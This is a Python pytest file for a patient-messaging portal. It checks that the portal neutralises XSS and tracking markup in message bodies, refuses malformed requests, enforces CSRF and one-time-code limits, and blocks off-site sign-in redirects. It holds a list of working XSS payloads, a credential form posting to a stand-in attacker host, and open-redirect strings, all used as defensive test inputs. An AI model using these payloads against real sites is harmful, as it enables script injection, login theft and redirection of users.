"""Hostile and malformed input: message bodies written to attack the reader, requests no form
would make, and the ways one-time codes and sign-in redirects get abused. Every answer is a
page of ours with a 4xx status, never a traceback, and credential failures are audited."""

from __future__ import annotations

import uuid
from datetime import timedelta
from typing import Any

import pytest
from flask import Flask
from flask.testing import FlaskClient
from sqlalchemy import select, update

from sealgate.config import Config
from sealgate.lab.sink import SmtpSink
from sealgate.server.portal.identity import now, safe_next
from sealgate.vault.models import AccessToken, AuditEvent, Part, PartKind
from sealgate.vault.vault import Vault
from tests.portal.conftest import (
    PATIENT,
    SENDER,
    code_from,
    csrf,
    deposit,
    mail_to,
    original,
    sign_in_with_code,
)

# Each line tries one way to run script, load something remote, or take the reader elsewhere.
HOSTILE = "\n".join([
    "<p>Visible paragraph 4417.</p>",
    "<script>alert('s1')</script><SCRIPT SRC=https://evil.test/x.js></SCRIPT>",
    "<img src=x onerror=\"alert('e1')\"><body onload=alert('e2')>",
    "<div onmouseover=\"alert('e3')\" style=\"color:red\">hover</div>",
    "<a href=\"javascript:alert('j1')\">j1</a><a href=\"JaVaScRiPt:alert('j2')\">j2</a>",
    "<a href=\"jav&#x09;ascript:alert('j3')\">j3</a><a href=\" &#106;avascript:alert(4)\">j4</a>",
    "<a href=\"vbscript:msgbox(1)\">v</a><a href=\"data:text/html;base64,PHNjcmlwdD4=\">d</a>",
    "<div style=\"width: expression(alert('c1'))\">css1</div>",
    "<p style=\"background:url(javascript:alert('c2'))\">css2</p>",
    "<p style=\"behavior: url(evil.htc); -moz-binding: url(https://evil.test/x.xml#x)\">c3</p>",
    "<p style=\"color: \\65 xpression(alert(1))\">css4</p>",
    "<svg onload=alert('v1')><script>alert('v2')</script></svg>",
    "<svg><animate onbegin=alert('v3') attributeName=x dur=1s></animate></svg>",
    "<svg><a xlink:href=\"javascript:alert('v4')\"><text x=20 y=20>v4</text></a></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert('m1')></style></mglyph>"
    "</table></mtext></math>",
    "<math href=\"javascript:alert('m2')\">m2</math>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert('n1')>\"></p></noscript>",
    "<meta http-equiv=\"refresh\" content=\"0;url=https://evil.test/refresh\">",
    "<base href=\"https://evil.test/\"><a href=\"relative/page\">relative</a>",
    "<iframe src=\"https://evil.test/frame\"></iframe>",
    "<iframe srcdoc=\"&lt;script&gt;alert('i1')&lt;/script&gt;\"></iframe>",
    "<form action=\"https://evil.test/steal\" method=post><input name=password type=password>"
    "<button formaction=\"https://evil.test/b\">Sign in</button></form>",
    "<img src=\"https://tracker.test/pixel.gif\" width=1 height=1>",
    "<table background=\"https://tracker.test/bg.png\"><tr><td>t</td></tr></table>",
    "<div style=\"background-image:url('https://tracker.test/css.png')\">bg</div>",
    "<link rel=stylesheet href=\"https://tracker.test/s.css\">",
    "<style>@import url(https://tracker.test/i.css); body{background:url(//tracker.test/b)}"
    "</style>",
    "<object data=\"https://evil.test/o.swf\"></object><embed src=\"https://evil.test/e.swf\">",
    "<a href=\"https://example.org/ok\">A fine link 5521</a>",
])

# Lower-cased markers none of which may be left in the served body.
MARKERS = (
    b"<script", b"onerror", b"onload", b"onmouseover", b"onbegin", b"javascript", b"vbscript",
    b"data:text", b"expression", b"behavior", b"binding", b"<svg", b"<math", b"<mglyph",
    b"xlink", b"<meta", b"refresh", b"<base", b"<iframe", b"srcdoc", b"<form", b"<input",
    b"<button", b"formaction", b"<link", b"<style", b"@import", b"<object", b"<embed",
    b"evil.test", b"tracker.test", b"alert(", b"relative/page", b"<noscript",
)


def actions(vault: Vault) -> list[str]:
    with vault.database.session() as db:
        return list(db.scalars(select(AuditEvent.action).order_by(AuditEvent.seq)))


def failures(vault: Vault) -> list[AuditEvent]:
    with vault.database.session() as db:
        return list(db.scalars(select(AuditEvent).where(
            AuditEvent.action == "portal.login_failed").order_by(AuditEvent.seq)))


def ask_for_code(client: FlaskClient, sink: SmtpSink, address: str) -> str:
    before = len([m for m in sink.messages if address in m.rcpt_tos])
    page = client.get("/signin")
    response = client.post("/signin", data={"csrf_token": csrf(page.data), "address": address})
    assert response.status_code == 302
    mail_to(sink, address, before + 1)
    return code_from(sink, address)


def type_code(client: FlaskClient, address: str, code: str, next_path: str = "") -> Any:
    form = client.get(f"/signin/code?address={address}")
    return client.post("/signin/code", data={"csrf_token": csrf(form.data), "address": address,
                                             "code": code, "next": next_path})


def wrong(code: str) -> str:
    return f"{(int(code) + 1) % 1_000_000:06d}"


def assert_our_page(response: Any, status: int) -> None:
    assert response.status_code == status, (response.status_code, response.data[:500])
    assert response.mimetype == "text/html"
    assert b"Traceback" not in response.data and b"<h1>" in response.data


def test_hostile_html_is_neutralised_in_the_served_body(
        client: FlaskClient, vault: Vault, config: Config, sink: SmtpSink) -> None:
    message_id = deposit(vault, config, original(html=HOSTILE))
    sign_in_with_code(client, sink, PATIENT)

    page = client.get(f"/m/{message_id}")
    assert page.status_code == 200
    assert b"Visible paragraph 4417" not in page.data  # the body is only ever in its frame
    assert b"alert(" not in page.data and b"evil.test" not in page.data

    for target in (f"/m/{message_id}/body", f"/m/{message_id}/body?remote=1"):
        body = client.get(target)
        assert body.status_code == 200
        fragment = body.data.split(b"<body>", 1)[1].lower()
        assert b"visible paragraph 4417" in fragment
        assert b'href="https://example.org/ok"' in fragment and b"a fine link 5521" in fragment
        for marker in MARKERS:
            if marker == b"tracker.test" and target.endswith("remote=1"):
                continue  # asked for: pictures (only) from the internet are shown
            assert marker not in fragment, (target, marker)
        policy = body.headers["Content-Security-Policy"]
        assert "default-src 'none'" in policy and "script" not in policy
        assert "sandbox" in policy and "allow-scripts" not in policy
        assert "base-uri 'none'" in policy and "form-action 'none'" in policy
    remote = fragment  # what the reader's own choice loads: the two pictures, nothing else
    assert remote.count(b"tracker.test") == 2
    assert b'<img src="https://tracker.test/pixel.gif"' in remote
    assert b'background="https://tracker.test/bg.png"' in remote

    printed = client.get(f"/m/{message_id}/print").data.lower()
    assert b"visible paragraph 4417" in printed
    for marker in (b"onerror", b"javascript", b"<svg", b"<iframe", b"evil.test", b"alert("):
        assert marker not in printed, marker


def test_markup_in_a_plain_text_body_and_in_the_subject_is_shown_as_text(
        client: FlaskClient, vault: Vault, config: Config, sink: SmtpSink) -> None:
    hostile = "<img src=x onerror=alert(1)>"
    message_id = deposit(vault, config, original(text=f"Plain {hostile} text"),
                         subject=f"Results {hostile}")
    sign_in_with_code(client, sink, PATIENT)
    escaped = b"&lt;img src=x onerror=alert(1)&gt;"
    for target in (f"/m/{message_id}", "/messages", f"/m/{message_id}/body",
                   f"/m/{message_id}/print"):
        response = client.get(target)
        assert response.status_code == 200, target
        assert hostile.encode() not in response.data and escaped in response.data, target


def test_unknown_and_malformed_message_addresses_get_a_plain_404(
        app: Flask, client: FlaskClient, vault: Vault, config: Config, sink: SmtpSink) -> None:
    unknown = uuid.uuid4()
    assert_our_page(client.get(f"/m/{unknown}"), 404)  # anonymous: the landing page
    for path in ("/m/not-a-uuid", "/m/1234/body", f"/m/{unknown}x", "/m/%00",
                 f"/m/{uuid.uuid4()}/parts/not-a-uuid", f"/t/{'%ff' * 10}", "/m/"):
        assert_our_page(client.get(path), 404)

    first = deposit(vault, config, original(attachments=(("a.pdf", "application/pdf",
                                                          b"%PDF first"),)))
    second = deposit(vault, config, original(attachments=(("b.pdf", "application/pdf",
                                                           b"%PDF second"),)))
    sign_in_with_code(client, sink, PATIENT)
    assert_our_page(client.get(f"/m/{unknown}"), 404)
    assert_our_page(client.get(f"/m/{unknown}/body"), 404)
    with vault.database.session() as db:
        parts = {(str(p.message_id), p.kind, p.filename): p.id for p in db.scalars(select(Part))}
    # A part of another message the visitor may read, and the parts of this one that are
    # not downloads (the raw original would carry the unsanitised HTML).
    for part in (parts[(second, PartKind.ATTACHMENT, "b.pdf")],
                 parts[(first, PartKind.ORIGINAL, "message.eml")],
                 parts[(first, PartKind.TEXT, None)], uuid.uuid4()):
        response = client.get(f"/m/{first}/parts/{part}")
        assert_our_page(response, 404)
        assert b"%PDF" not in response.data and b"results are normal" not in response.data
    assert client.get(f"/m/{second}/parts/{parts[(second, PartKind.ATTACHMENT, 'b.pdf')]}") \
        .data == b"%PDF second"


def test_oversized_fields_get_a_form_error_not_a_server_error(
        client: FlaskClient, vault: Vault, config: Config, sink: SmtpSink) -> None:
    message_id = deposit(vault, config)
    page = client.get("/signin")
    long_address = "a" * 990 + "@gmail.test"
    response = client.post("/signin", data={"csrf_token": csrf(page.data),
                                            "address": long_address, "next": "/" + "n" * 5000})
    assert response.status_code == 200 and b"longer than 320" in response.data
    assert sink.messages == []

    code = ask_for_code(client, sink, PATIENT)
    form = client.get(f"/signin/code?address={PATIENT}")
    response = client.post("/signin/code", data={"csrf_token": csrf(form.data),
                                                 "address": PATIENT, "code": code + "9" * 300})
    assert response.status_code == 200 and b"longer than 12" in response.data
    response = client.post("/signin/code", data={"csrf_token": csrf(form.data),
                                                 "address": long_address, "code": code})
    assert response.status_code == 200 and b"Code from the email" in response.data
    assert client.get("/messages").status_code == 302
    assert type_code(client, PATIENT, code).status_code == 302  # the code is still good

    reply = client.get(f"/m/{message_id}/reply")
    response = client.post(f"/m/{message_id}/reply", data={
        "csrf_token": csrf(reply.data), "text": "x" * 200_001},
        content_type="multipart/form-data")
    assert response.status_code == 200 and b"longer than 200000" in response.data
    assert not [m for m in sink.messages if SENDER in m.rcpt_tos]


GARBAGE = [
    ("multipart/form-data; boundary=zzz", b"garbage without any boundary"),
    ("multipart/form-data", b"--zzz\r\nContent-Disposition: form-data; name=text\r\n\r\nhi"),
    ("multipart/form-data; boundary=zzz",
     b"--zzz\r\nContent-Disposition: form-data; name=\"text\"\r\n\r\nunterminated"),
    ("multipart/form-data; boundary=zzz", b"--zzz\r\n\xff\xfe\x00garbage\r\n--zzz--\r\n"),
    ("application/x-www-form-urlencoded", b"%%%&&&=\xff\xfe"),
    ("application/json", b"{not json"),
]


def test_garbage_request_bodies_are_refused_with_400(
        client: FlaskClient, vault: Vault, config: Config, sink: SmtpSink) -> None:
    message_id = deposit(vault, config)
    sign_in_with_code(client, sink, PATIENT)
    for content_type, body in GARBAGE:
        for path in (f"/m/{message_id}/reply", "/signin/code", "/signin"):
            response = client.post(path, data=body, content_type=content_type)
            assert_our_page(response, 400)
    # A good token first does not help a body that then breaks off.
    token = csrf(client.get(f"/m/{message_id}/reply").data).encode()
    truncated = (b"--zzz\r\nContent-Disposition: form-data; name=\"csrf_token\"\r\n\r\n" + token
                 + b"\r\n--zzz\r\nContent-Disposition: form-data; name=\"text\"\r\n\r\ncut")
    response = client.post(f"/m/{message_id}/reply", data=truncated,
                           content_type="multipart/form-data; boundary=zzz")
    assert_our_page(response, 400)
    assert not [m for m in sink.messages if SENDER in m.rcpt_tos]


def test_a_bad_csrf_token_gets_a_page_that_says_the_form_expired(
        client: FlaskClient, vault: Vault, config: Config, sink: SmtpSink) -> None:
    message_id = deposit(vault, config)
    code = ask_for_code(client, sink, PATIENT)
    response = client.post("/signin/code", data={"csrf_token": "x" * 90, "address": PATIENT,
                                                 "code": code})
    assert_our_page(response, 400)
    assert b"This form has expired" in response.data
    # A token from another browser's session is no better.
    other = client.application.test_client()
    stolen = csrf(other.get("/signin").data)
    response = client.post("/signin/code", data={"csrf_token": stolen, "address": PATIENT,
                                                 "code": code})
    assert_our_page(response, 400)
    assert type_code(client, PATIENT, code, f"/m/{message_id}").status_code == 302


def test_a_one_time_code_works_once(app: Flask, vault: Vault, config: Config,
                                    sink: SmtpSink) -> None:
    deposit(vault, config)
    client = app.test_client()
    code = ask_for_code(client, sink, PATIENT)
    assert type_code(client, PATIENT, code).status_code == 302
    again = app.test_client()
    refused = type_code(again, PATIENT, code)
    assert refused.status_code == 200 and b"That code is wrong or no longer valid" in refused.data
    assert again.get("/messages").status_code == 302  # not signed in
    [failed] = failures(vault)
    assert failed.object_id == PATIENT and failed.details["how"] == "code"


def test_an_expired_code_is_refused(client: FlaskClient, vault: Vault, config: Config,
                                    sink: SmtpSink) -> None:
    deposit(vault, config)
    code = ask_for_code(client, sink, PATIENT)
    with vault.database.writing() as db:
        changed = db.execute(update(AccessToken).where(AccessToken.address == PATIENT)
                             .values(expires_at=now() - timedelta(seconds=1)))
        assert changed.rowcount == 1  # type: ignore[attr-defined]
    refused = type_code(client, PATIENT, code)
    assert refused.status_code == 200 and b"That code is wrong or no longer valid" in refused.data
    assert client.get("/messages").status_code == 302
    assert len(failures(vault)) == 1


def test_after_too_many_wrong_guesses_even_the_right_code_is_refused(
        client: FlaskClient, vault: Vault, config: Config, sink: SmtpSink) -> None:
    deposit(vault, config)
    code = ask_for_code(client, sink, PATIENT)
    for _ in range(config.portal.code_attempts):
        assert type_code(client, PATIENT, wrong(code)).status_code == 200
    refused = type_code(client, PATIENT, code)
    assert refused.status_code == 200 and b"That code is wrong or no longer valid" in refused.data
    assert client.get("/messages").status_code == 302
    assert len(failures(vault)) == config.portal.code_attempts + 1
    assert "portal.signed_in" not in actions(vault)
    with vault.database.session() as db:
        token = db.scalars(select(AccessToken).where(AccessToken.address == PATIENT)).one()
        assert token.used_at is not None and token.attempts == config.portal.code_attempts
    # A new code works: the guesses spent only the old one.
    assert type_code(client, PATIENT, ask_for_code(client, sink, PATIENT)).status_code == 302


def test_sign_in_never_redirects_off_site(app: Flask, vault: Vault, config: Config,
                                          sink: SmtpSink) -> None:
    deposit(vault, config)
    for target in ("https://evil.test/", "//evil.test"):
        response = sign_in_with_code(app.test_client(), sink, PATIENT, target)
        assert response.status_code == 302
        assert response.headers["Location"] == "/messages"


@pytest.mark.parametrize("target", [
    "https://evil.test/", "//evil.test", "///evil.test/x", "/\\evil.test", "\\\\evil.test",
    "/\t/evil.test", "/\n/evil.test", " //evil.test", "https:evil.test",
    "javascript:alert(1)", "http://127.0.0.1:8025@evil.test/", "", None,
])
def test_only_a_path_on_this_site_is_a_sign_in_target(target: str | None) -> None:
    assert safe_next(target) == "/messages"


def test_a_path_on_this_site_is_kept_as_the_sign_in_target() -> None:
    for target in ("/m/0b4c6f4e-2f0e-4e8b-9c1d-7a1b2c3d4e5f", "/messages?page=2"):
        assert safe_next(target) == target
